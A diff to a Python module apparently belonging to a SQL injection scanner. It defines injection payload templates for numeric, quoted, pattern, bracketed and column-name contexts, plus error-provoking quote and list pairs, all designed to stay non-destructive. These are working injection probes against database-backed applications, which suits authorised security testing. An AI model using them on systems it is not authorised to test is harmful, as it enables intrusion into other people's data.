@@ -1,7 +1,8 @@
 """Payloads of `sqli`: where a value may stand in a statement, and how to leave it again without breaking the statement.
 
-Every payload keeps the statement a single one and only ever narrows it (`AND`, never `OR`; no second statement), so that
-it changes or deletes nothing that its baseline would not.
+Every payload keeps the statement a single one and only ever narrows what it touches. For requests that may change
+something this must hold wherever the value stands, and on every engine, so there only expressions are used whose result
+is the value itself or nothing: `'x' AND 1=2` is 0 inside IN (…), and MySQL finds every text equal to 0.
 """
 
 from typing import NamedTuple
@@ -9,35 +10,48 @@ from typing import NamedTuple
 # Breaks out of every kind of quoting at once: whatever the context, a statement that holds it raw does not parse.
 SCREEN = "{value}'\""
 
-# Words that look like the operator and are none: a statement that holds one does not parse, a search does not care.
-LOOKALIKES = ("AMD", "ADN", "NAD", "ANB")
-OPERATOR = "AND"
-
 
 class Context(NamedTuple):
-    """A place in a statement. `left` and `right` are compared; `same` keeps the rest of the statement true.
+    """A place in a statement, and an expression that is true or false there.
 
-    number: makes sense for numbers only. quotes: needs a quote to get through.
+    pattern: `value` stands for the baseline's value, of which `head` is all but the last character and `tail` the last;
+    `left` and `right` are compared; `same` keeps the rest of the statement true; `mark` is a text that equals no other,
+    and `changed` is it where the expression shall be false.
+    operator: what `word` stands for; in its place the lookalikes make a statement that does not parse, and mean nothing
+    to a search. number: makes sense for numbers only. quotes: needs a quote to get through.
     """
 
     name: str
     pattern: str
+    operator: str
+    lookalikes: tuple[str, ...]
     number: bool = False
     quotes: bool = True
 
 
-CONTEXTS = (
-    Context("number", "{value} {word} {left}={right}", number=True, quotes=False),
-    Context("text", "{value}' {word} {left}={right} {word} '{same}'='{same}"),
-    Context("pattern", "{value}%' {word} {left}={right} {word} '{same}%'='{same}"),
-    Context("number in brackets", "{value}) {word} {left}={right} {word} ({same}={same}", number=True, quotes=False),
-    Context("text in brackets", "{value}') {word} {left}={right} {word} ('{same}'='{same}"),
-    Context("pattern in brackets", "{value}%') {word} {left}={right} {word} ('{same}%'='{same}"),
-    Context("text in double quotes", '{value}" {word} {left}={right} {word} "{same}"="{same}'),
+_AND = ("AND", ("AMD", "ADN", "NAD", "ANB"))
+_CASE = ("CASE", ("CASA", "CSAE", "CAZE", "CASK"))
+
+# The value itself, or NULL: a number anywhere, or the name of a column.
+_BARE = Context("number", "{word} WHEN {left}={right} THEN {value} END", *_CASE, number=True, quotes=False)
+_NAME = Context("name of a column", "{word} WHEN {left}={right} THEN {value} END", *_CASE, quotes=False)
+# The value itself, or one that equals no other. Letters only, because MySQL reads `||` as OR and digits as true.
+_JOINED = Context("text, joined", "{value}'||{word} WHEN {left}={right} THEN '' ELSE '{mark}' END||'", *_CASE)
+# MySQL joins texts that stand side by side.
+_BESIDE = Context("text, side by side", "{head}'{word} '{tail}{changed}", "", (" '", "' ", " ' "))
+_TEXT = Context("text", "{value}' {word} {left}={right} {word} '{same}'='{same}", *_AND)
+_PATTERN = Context("pattern", "{value}%' {word} {left}={right} {word} '{same}%'='{same}", *_AND)
+_TEXT_IN_BRACKETS = Context("text in brackets", "{value}') {word} {left}={right} {word} ('{same}'='{same}", *_AND)
+_PATTERN_IN_BRACKETS = Context(
+    "pattern in brackets", "{value}%') {word} {left}={right} {word} ('{same}%'='{same}", *_AND
 )
-# A number is seldom searched for by pattern, and a text never stands bare where it is compared.
-FOR_NUMBERS = tuple(context for context in CONTEXTS if "pattern" not in context.name and "double" not in context.name)
-FOR_TEXTS = tuple(context for context in CONTEXTS if not context.number)
+_DOUBLE = Context("text in double quotes", '{value}" {word} {left}={right} {word} "{same}"="{same}', *_AND)
+
+# A number is seldom searched for by pattern.
+READING_NUMBERS = (_BARE, _JOINED, _TEXT, _TEXT_IN_BRACKETS)
+READING_TEXTS = (_JOINED, _TEXT, _PATTERN, _TEXT_IN_BRACKETS, _PATTERN_IN_BRACKETS, _DOUBLE, _NAME)
+CHANGING_NUMBERS = (_BARE, _JOINED, _BESIDE)
+CHANGING_TEXTS = (_JOINED, _BESIDE, _NAME)
 
 
 class Pair(NamedTuple):
@@ -49,12 +63,13 @@ class Pair(NamedTuple):
 
 
 # Each context twice, so that a repeat differs in more than its mark.
-_TEXT = (Pair("text", "{value}{mark}'", "{value}{mark}''"), Pair("text", "{value}'{mark}", "{value}''{mark}"))
-_DOUBLE = (
+_TEXT_PAIRS = (Pair("text", "{value}{mark}'", "{value}{mark}''"), Pair("text", "{value}'{mark}", "{value}''{mark}"))
+_DOUBLE_PAIRS = (
     Pair("text in double quotes", '{value}{mark}"', '{value}{mark}""'),
     Pair("text in double quotes", '{value}"{mark}', '{value}""{mark}'),
 )
 _ARITHMETIC = (Pair("number", "{value}-", "{value}-0"), Pair("number", "{value}*", "{value}*1"))
-_LIST = (Pair("list", "{value},", "{value},1"), Pair("list", "{value},(", "{value},(1)"))
-ERROR_PAIRS_FOR_NUMBERS = (_ARITHMETIC, _TEXT, _LIST)
-ERROR_PAIRS_FOR_TEXTS = (_TEXT, _LIST, _DOUBLE)
+# The value again and nothing else: in a list of what to delete, another one would be deleted too.
+_LIST = (Pair("list", "{value},", "{value},{value}"), Pair("list", "{value},(", "{value},({value})"))
+ERROR_PAIRS_FOR_NUMBERS = (_ARITHMETIC, _TEXT_PAIRS, _LIST)
+ERROR_PAIRS_FOR_TEXTS = (_TEXT_PAIRS, _LIST, _DOUBLE_PAIRS)
